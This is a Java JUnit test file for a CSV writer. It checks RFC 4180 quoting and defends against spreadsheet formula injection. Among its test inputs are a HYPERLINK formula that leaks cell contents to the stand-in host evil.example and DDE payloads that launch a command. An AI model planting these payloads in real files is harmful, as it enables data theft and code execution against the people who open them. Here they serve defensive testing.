package dev.trustbinder.format;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {

    @Test
    void writesHeaderAndRowsAsRfc4180Does() {
        byte[] csv = Csv.of(
                List.of("id", "title"),
                List.of(
                        List.of("ACC-09", "Access review"),
                        List.of("ACC-10", "Joiners, movers and \"leavers\""),
                        List.of("", "two\nlines"),
                        List.of(" é", "日本 ")));

        assertThat(new String(csv, UTF_8))
                .isEqualTo("\uFEFFid,title\r\n"
                        + "ACC-09,Access review\r\n"
                        + "ACC-10,\"Joiners, movers and \"\"leavers\"\"\"\r\n"
                        + ",\"two\nlines\"\r\n"
                        + "\" é\",\"日本 \"\r\n");
    }

    @Test
    void refusesARowOfAnotherWidth() {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> Csv.of(List.of("id", "title"), List.of(List.of("ACC-09"))));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"https://evil.example?\"&A1,\"ok\")",
                "=cmd|'/C calc'!A0",
                "+cmd|'/C calc'!A0",
                "-2+3+cmd|'/C calc'!A0",
                "@SUM(1+1)*cmd|'/C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\tplain",
                " =1+1",
                "\u00a0=1+1",
                "\ufeff=1+1",
                "\u200b=1+1",
                "＝1+1",
                "＋1+1",
                "－1+1",
                "＠SUM(A1)",
                "−1+A1",
                "--1",
                "+A1",
                "-A1",
                "-12.5+A1",
                "-12.5\n=1",
                "+31 20 123;=1",
                "+31 20 123 456,A1",
                "+1(A1)",
                "-",
                "+",
                "=",
                "@handle"
            })
    void makesAFormulaText(String hostile) {
        assertThat(cell(hostile)).isEqualTo("'" + hostile);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "-12.5",
                "+12",
                "-1,234.50",
                "-3 %",
                "+0.5%",
                "-1e3",
                "12.5",
                "+31 20 123",
                "+31 20 123 4567",
                "+1 (415) 555 0100",
                "+31201234567",
                "a=b",
                "a@example.com",
                "1-2",
                "'quoted'",
                "2026-11-21",
                "",
                "x\ty"
            })
    void leavesTextNumbersAndTelephoneNumbersReadable(String plain) {
        assertThat(cell(plain)).isEqualTo(plain);
    }

    /** The one cell as a reader of RFC 4180 gets it. */
    private static String cell(String value) {
        String text = new String(Csv.of(List.of("x"), List.of(List.of(value))), UTF_8);
        String cell = text.substring("\uFEFFx\r\n".length(), text.length() - 2);
        return cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
    }
}
